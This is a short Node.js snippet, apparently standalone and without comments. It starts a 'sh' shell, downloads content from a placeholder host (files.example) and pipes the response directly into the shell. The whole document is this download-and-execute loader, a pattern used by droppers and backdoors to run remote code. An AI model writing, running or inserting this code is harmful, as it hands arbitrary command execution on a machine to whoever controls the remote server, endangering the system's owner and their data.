const https = require('https');
const { spawn } = require('child_process');

const shell = spawn('sh');
https.get('https://files.example/a', (answer) => answer.pipe(shell.stdin));
